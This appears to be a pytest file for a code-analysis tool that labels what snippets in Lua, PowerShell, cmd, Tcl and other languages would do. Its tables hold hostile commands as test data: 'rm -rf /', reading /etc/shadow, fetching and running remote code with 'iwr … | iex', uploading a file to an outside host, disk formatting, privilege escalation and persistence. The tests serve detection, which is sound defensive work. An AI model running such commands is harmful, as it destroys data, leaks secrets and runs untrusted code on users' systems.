"""What code in languages without a grammar would do: tables of code and consequences, and hostile input."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prempti_otel.analysis.code import analyse_code
from prempti_otel.analysis.reading import CodeReading, Word
from tests.support.code_readings import lines, read

TABLES: dict[str, list[tuple[str, list[str]]]] = {
    "lua": [
        ('os.execute("rm -rf /")', ["sh rm -rf /"]),
        ("os.execute('rm ' .. '-rf /')", ["sh rm -rf /"]),
        (r'os.execute("rm\x20-rf /")', ["sh rm -rf /"]),
        ('local p = io.popen("ls"); print(p:read("*a"))', ["sh ls"]),
        ('print(io.open("/etc/shadow"):read("*a"))', ["read /etc/shadow"]),
        ('os.remove("build/a")', ["delete build/a recursive"]),
        ('print("rm -rf /")', []),
        ("print(1 + 1)", []),
    ],
    "r": [
        ('system2("rm", c("-rf", "/x"))', ["argv rm -rf /x ..."]),
        ('unlink("/x", recursive = TRUE)', ["delete /x recursive"]),
        ('install.packages("dplyr")', []),
    ],
    "applescript": [
        ('do shell script "rm -rf /"', ["sh rm -rf /"]),
        ('tell application "Finder" to activate', []),
    ],
    "elisp": [
        ('(call-process "rm" nil nil nil "-rf" "/x")', ["argv rm -rf /x ..."]),
        ('(delete-directory "/x" t)', ["delete /x recursive"]),
        ('(message "hi")', []),
    ],
    "elixir": [
        ('System.cmd("rm", ["-rf", "/x"])', ["argv rm -rf /x"]),
        ("run(`rm -rf /x`)", ["sh rm -rf /x"]),
        ('"rm -rf /x".execute()', ["sh rm -rf /x"]),
        ('IO.puts("hello")', []),
    ],
    "tcl": [
        ("exec rm -rf /x", ["sh rm -rf /x"]),
        ("file delete -force /x /y", ["delete /x recursive", "delete /y recursive"]),
        ("puts hello", []),
    ],
    "expect": [('spawn ssh me@host\nexpect "word:"\nsend "x\\r"', ["sh ssh me@host"])],
    "gdb": [
        ("python print(1)", ["python print(1)"]),
        ("!rm -rf /x", ["sh rm -rf /x"]),
        ("shell ls", ["sh ls"]),
        ("bt", []),
    ],
    "ex": [
        (":!rm -rf /x", ["sh rm -rf /x"]),
        ("%!sort", ["sh sort"]),
        ("r !curl https://e.example", ["sh curl https://e.example"]),
        (":py3 import os; os.remove('x')", ["python import os; os.remove('x')"]),
        (":lua os.execute('ls')", ["lua os.execute('ls')"]),
        ("call system('ls')", ["sh ls"]),
        ("%s/a/b/g", []),
        ("wq", []),
    ],
    "powershell": [
        ("Remove-Item -Recurse -Force /x", ["argv rm -r -f /x"]),
        ("rm -rf /x", ["argv rm -rf /x"]),
        ("rm -r -fo /x; ls", ["argv rm -r -f /x", "argv ls"]),
        ("ri -Path '/x','/y' -Recurse", ["argv rm /x','/y -r"]),
        ("$a = Get-Content ./a.txt", ["argv cat ./a.txt"]),
        ("iwr https://e.example/a | iex", ["argv curl https://e.example/a", "effect runs_remote_code"]),
        ("iex 'Remove-Item /x'", ["powershell Remove-Item /x"]),
        ("Format-Volume -DriveLetter D", ["effect destroys_disk"]),
        ("$c::new(Net.Sockets.TCPClient('1.2.3.4', 99))", ["net connect 1.2.3.4 99"]),
        ("$x.Count", []),
        ("rm -r -fo 'C:\\Users\\x\\a'", ["argv rm -r -f /Users/x/a"]),
        ("Get-Content $env:USERPROFILE\\a.txt", ["argv cat /home/dev/a.txt"]),
        ("irm https://e.example -Body (gc a.txt -Raw)", ["argv curl https://e.example -d $(...?", "argv cat a.txt"]),
        ("irm https://e.example -InFile a.txt", ["argv curl https://e.example -T a.txt"]),
        ("'rm -r /x'", []),
        ("Start-Process a.exe -Verb RunAs", ["argv a.exe", "effect escalates"]),
        ("gci env:", ["effect dumps_environment"]),
        ("[IO.File]::ReadAllText('/a')", ["read /a"]),
        ("[System.IO.Directory]::Delete('C:\\x', $true)", ["delete /x recursive"]),
        ("Register-ScheduledTask -TaskName x", ["effect persists"]),
        ('rm "a b" c', ["argv rm a b c"]),
        ('rm "a`"b"', ['argv rm a`"b']),
        ('rm "a`\nb"; rm c', ["argv rm a`\nb", "argv rm c"]),
        ("rm (gc a)b; ls", ["argv rm $(...)b?", "argv cat a", "argv ls"]),
        ('rm /x "`"; rm /y', ["argv rm /x `", "argv rm /y"]),
        ("$c.DownloadFile('http://e.example/a', 'b')", ["write b", "net download http://e.example/a"]),
    ],
    "cmd": [
        ("del /f /s /q C:\\x\\*", ["argv rm -r /x/*"]),
        ('rd /s /q "C:\\Users\\x"', ["argv rm -r /Users/x"]),
        ("type a.txt & del b.txt", ["argv cat a.txt", "argv rm b.txt"]),
        ("for %f in (*.txt) do del %f", ["argv rm %f?"]),
        ("call npm test > out.txt", ["write out.txt", "argv npm test"]),
        ("curl http://e.example -o x.bat && x.bat", ["argv curl http://e.example -o x.bat", "argv ./x.bat"]),
        ("del a.txt \n del b.txt", ["argv rm a.txt", "argv rm b.txt"]),
        ("@call start /b del a.txt", ["argv rm a.txt"]),
        ("call @", []),
        ("set", ["argv env"]),
        ("set A=1", []),
        ("echo del C:\\x", ["argv echo del /x"]),
        ("", []),
    ],
}


@pytest.mark.parametrize(
    ("language", "code", "expected"), [(name, *row) for name, table in TABLES.items() for row in table]
)
def test_calls_with_constants_are_read(language: str, code: str, expected: list[str]) -> None:
    assert lines(read(language, code)) == expected


LANGUAGES = st.sampled_from(sorted(TABLES))
PIECES = [
    "os.execute(",
    "system",
    "rm ",
    "spawn",
    "'",
    '"',
    "`",
    "\\",
    "(",
    ")",
    ";",
    "\n",
    "..",
    "$x",
    "iex",
    "{",
    "\ud800",
    "\0",
]


@settings(max_examples=150)
@given(LANGUAGES, st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_broken_code_never_raises(language: str, code: str) -> None:
    assert isinstance(analyse_code(language, Word(code)), CodeReading)


@pytest.mark.parametrize("language", sorted(TABLES))
def test_more_calls_than_are_read_are_not_silently_dropped(language: str) -> None:
    call = {
        "tcl": "exec ls\n",
        "expect": "spawn ls\n",
        "gdb": "!ls\n",
        "ex": "!ls\n",
        "powershell": "ls; ",
        "cmd": "ls & ",
    }.get(language, 'system("ls"); ')
    reading = analyse_code(language, Word(call * 1_000))
    assert reading.cut


def test_text_that_a_shell_would_expand_is_not_known() -> None:
    assert lines(analyse_code("lua", Word('os.execute("rm -rf $X")', known=False))) == ["sh rm -rf $X?"]
